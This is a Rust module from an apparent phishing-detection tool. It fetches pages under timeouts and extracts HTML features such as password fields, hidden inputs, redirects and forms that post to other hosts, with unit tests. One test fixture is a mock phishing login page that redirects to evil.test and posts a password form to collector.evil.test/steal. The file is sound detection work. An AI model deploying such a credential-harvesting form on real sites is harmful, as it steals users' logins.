//! Page Content Feature Extraction
//!
//! Best-effort: the page is fetched with a bounded timeout and body cap.
//! Any network failure yields `None`, and `ContentFeatures::default()` then
//! writes zero/false for every content feature.

use std::time::Duration;

use once_cell::sync::Lazy;
use regex::Regex;
use url::Url;

use super::url::ParsedUrl;
use super::vector::{FeatureExtractor, FeatureVector};
use crate::constants::{MAX_CONTENT_BYTES, MAX_FETCH_REDIRECTS};

/// `<form ... action="http(s)://...">`, capture the absolute target
static FORM_ACTION: Lazy<Option<Regex>> = Lazy::new(|| {
    Regex::new(r#"<form[^>]*\saction\s*=\s*["']?(https?://[^"'\s>]+)"#)
        .map_err(|e| log::error!("form action pattern: {}", e))
        .ok()
});

// ============================================================================
// FETCHED PAGE
// ============================================================================

#[derive(Debug, Clone)]
pub struct PageContent {
    pub body: String,
    /// URL after redirects
    pub final_url: String,
}

impl PageContent {
    pub fn new(body: impl Into<String>, final_url: impl Into<String>) -> Self {
        Self {
            body: body.into(),
            final_url: final_url.into(),
        }
    }
}

/// HTTP fetcher for page content
#[derive(Clone)]
pub struct ContentFetcher {
    http_client: reqwest::Client,
}

impl ContentFetcher {
    pub fn new(timeout: Duration) -> Result<Self, reqwest::Error> {
        let http_client = reqwest::Client::builder()
            .timeout(timeout)
            .connect_timeout(timeout)
            .redirect(reqwest::redirect::Policy::limited(MAX_FETCH_REDIRECTS))
            .user_agent(concat!("PhishGuard/", env!("CARGO_PKG_VERSION")))
            .build()?;

        Ok(Self { http_client })
    }

    /// GET the page. Never fails: errors are logged and collapse to `None`.
    pub async fn fetch(&self, parsed: &ParsedUrl) -> Option<PageContent> {
        match self.try_fetch(parsed).await {
            Ok(page) => Some(page),
            Err(e) => {
                log::debug!("Content fetch failed for {}: {}", parsed.host(), e);
                None
            }
        }
    }

    async fn try_fetch(&self, parsed: &ParsedUrl) -> Result<PageContent, reqwest::Error> {
        let mut response = self.http_client.get(parsed.as_url().clone()).send().await?;
        let final_url = response.url().to_string();

        let mut body = Vec::new();
        while let Some(chunk) = response.chunk().await? {
            let room = MAX_CONTENT_BYTES.saturating_sub(body.len());
            body.extend_from_slice(&chunk[..chunk.len().min(room)]);
            if body.len() >= MAX_CONTENT_BYTES {
                break;
            }
        }

        Ok(PageContent {
            body: String::from_utf8_lossy(&body).into_owned(),
            final_url,
        })
    }
}

// ============================================================================
// FEATURES
// ============================================================================

#[derive(Debug, Clone, Default, PartialEq)]
pub struct ContentFeatures {
    pub num_lines: usize,
    pub largest_line_length: usize,
    pub num_scripts: usize,
    pub num_stylesheets: usize,
    pub num_images: usize,
    pub num_iframes: usize,
    pub num_forms: usize,
    pub has_password_field: bool,
    pub has_submit_button: bool,
    pub has_hidden_fields: bool,
    pub has_viewport_meta: bool,
    pub has_title: bool,
    pub has_description_meta: bool,
    pub has_robots_meta: bool,
    pub has_favicon: bool,
    pub has_copyright: bool,
    pub has_external_form_action: bool,
    pub num_redirect_indicators: usize,
    pub was_redirected: bool,
    pub final_url_is_https: bool,
}

impl ContentFeatures {
    pub fn from_page(parsed: &ParsedUrl, page: &PageContent) -> Self {
        let html = page.body.to_lowercase();
        let has = |needle: &str| html.contains(needle);
        let count = |needle: &str| html.matches(needle).count();

        let final_url = Url::parse(&page.final_url).ok();

        Self {
            num_lines: page.body.lines().count(),
            largest_line_length: page.body.lines().map(|l| l.chars().count()).max().unwrap_or(0),
            num_scripts: count("<script"),
            num_stylesheets: count("rel=\"stylesheet\"") + count("rel='stylesheet'"),
            num_images: count("<img"),
            num_iframes: count("<iframe"),
            num_forms: count("<form"),
            has_password_field: has("type=\"password\"") || has("type='password'"),
            has_submit_button: has("type=\"submit\"") || has("type='submit'"),
            has_hidden_fields: has("type=\"hidden\"") || has("type='hidden'"),
            has_viewport_meta: has("name=\"viewport\"") || has("name='viewport'"),
            has_title: has("<title"),
            has_description_meta: has("name=\"description\"") || has("name='description'"),
            has_robots_meta: has("name=\"robots\"") || has("name='robots'"),
            has_favicon: has("favicon") || has("rel=\"icon\"") || has("rel=\"shortcut icon\""),
            has_copyright: has("copyright") || has("&copy;") || has("\u{a9}"),
            has_external_form_action: has_external_form_action(&html, parsed.host()),
            num_redirect_indicators: count("window.location") + count("http-equiv=\"refresh\"")
                + count("http-equiv='refresh'"),
            was_redirected: final_url
                .as_ref()
                .map(|u| u != parsed.as_url())
                .unwrap_or(false),
            final_url_is_https: final_url
                .as_ref()
                .map(|u| u.scheme() == "https")
                .unwrap_or(false),
        }
    }
}

/// True when some form posts to an absolute URL on a different host
fn has_external_form_action(html: &str, page_host: &str) -> bool {
    let Some(pattern) = (*FORM_ACTION).as_ref() else {
        return false;
    };

    pattern.captures_iter(html).any(|caps| {
        caps.get(1)
            .and_then(|m| Url::parse(m.as_str()).ok())
            .and_then(|u| u.host_str().map(|h| h.to_string()))
            .map(|h| !h.eq_ignore_ascii_case(page_host))
            .unwrap_or(false)
    })
}

impl FeatureExtractor for ContentFeatures {
    fn extract(&self, vector: &mut FeatureVector) {
        vector.set_by_name("num_lines", self.num_lines as f64);
        vector.set_by_name("largest_line_length", self.largest_line_length as f64);
        vector.set_by_name("num_scripts", self.num_scripts as f64);
        vector.set_by_name("num_stylesheets", self.num_stylesheets as f64);
        vector.set_by_name("num_images", self.num_images as f64);
        vector.set_by_name("num_iframes", self.num_iframes as f64);
        vector.set_by_name("num_forms", self.num_forms as f64);
        vector.set_flag("has_password_field", self.has_password_field);
        vector.set_flag("has_submit_button", self.has_submit_button);
        vector.set_flag("has_hidden_fields", self.has_hidden_fields);
        vector.set_flag("has_viewport_meta", self.has_viewport_meta);
        vector.set_flag("has_title", self.has_title);
        vector.set_flag("has_description_meta", self.has_description_meta);
        vector.set_flag("has_robots_meta", self.has_robots_meta);
        vector.set_flag("has_favicon", self.has_favicon);
        vector.set_flag("has_copyright", self.has_copyright);
        vector.set_flag("has_external_form_action", self.has_external_form_action);
        vector.set_by_name("num_redirect_indicators", self.num_redirect_indicators as f64);
        vector.set_flag("was_redirected", self.was_redirected);
        vector.set_flag("final_url_is_https", self.final_url_is_https);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logic::features::layout::{CONTENT_FEATURES_START, FEATURE_COUNT};

    const LOGIN_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head>
  <title>Sign in</title>
  <meta name="viewport" content="width=device-width">
  <link rel="stylesheet" href="/a.css"><link rel="icon" href="/favicon.ico">
  <script src="/a.js"></script><script>window.location = "https://evil.test";</script>
</head>
<body>
  <form method="post" action="https://collector.evil.test/steal">
    <input type="hidden" name="t" value="1">
    <input type="password" name="p">
    <input type="submit">
  </form>
  <img src="/logo.png"><iframe src="/x"></iframe>
  <footer>&copy; 2024</footer>
</body>
</html>"#;

    fn parsed(url: &str) -> ParsedUrl {
        ParsedUrl::parse(url).unwrap()
    }

    #[test]
    fn test_login_page_features() {
        let page = PageContent::new(LOGIN_PAGE, "https://bank.example.com/login");
        let f = ContentFeatures::from_page(&parsed("http://bank.example.com/login"), &page);

        assert_eq!(f.num_lines, LOGIN_PAGE.lines().count());
        assert_eq!(f.num_scripts, 2);
        assert_eq!(f.num_stylesheets, 1);
        assert_eq!(f.num_images, 1);
        assert_eq!(f.num_iframes, 1);
        assert_eq!(f.num_forms, 1);
        assert!(f.has_password_field);
        assert!(f.has_submit_button);
        assert!(f.has_hidden_fields);
        assert!(f.has_viewport_meta);
        assert!(f.has_title);
        assert!(!f.has_description_meta);
        assert!(f.has_favicon);
        assert!(f.has_copyright);
        assert!(f.has_external_form_action);
        assert_eq!(f.num_redirect_indicators, 1);
        assert!(f.was_redirected);
        assert!(f.final_url_is_https);
    }

    #[test]
    fn test_same_host_form_is_not_external() {
        let html = r#"<form action="https://bank.example.com/session"></form>"#;
        assert!(!has_external_form_action(html, "bank.example.com"));
        assert!(has_external_form_action(html, "other.example.com"));
        assert!(!has_external_form_action("<form action=\"/relative\">", "bank.example.com"));
    }

    #[test]
    fn test_default_zeroes_content_block() {
        let mut vector = FeatureVector::new();
        for i in CONTENT_FEATURES_START..FEATURE_COUNT {
            vector.set(i, 7.0);
        }

        ContentFeatures::default().extract(&mut vector);

        assert!(vector.as_slice()[CONTENT_FEATURES_START..].iter().all(|v| *v == 0.0));
    }

    #[tokio::test]
    async fn test_failed_fetch_zeroes_content_features() {
        let port = {
            let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            listener.local_addr().unwrap().port()
        };
        let url = parsed(&format!("http://127.0.0.1:{}/login", port));

        let fetcher = ContentFetcher::new(Duration::from_millis(500)).unwrap();
        let page = fetcher.fetch(&url).await;
        assert!(page.is_none());

        let vector = crate::logic::features::extract_parsed(&url, page.as_ref());
        assert!(vector.as_slice()[CONTENT_FEATURES_START..].iter().all(|v| *v == 0.0));
        assert_eq!(vector.get_by_name("is_ip_host"), Some(1.0));
    }

    #[test]
    fn test_unparseable_final_url() {
        let page = PageContent::new("<html></html>", "");
        let f = ContentFeatures::from_page(&parsed("https://example.com/"), &page);
        assert!(!f.was_redirected);
        assert!(!f.final_url_is_https);
    }
}
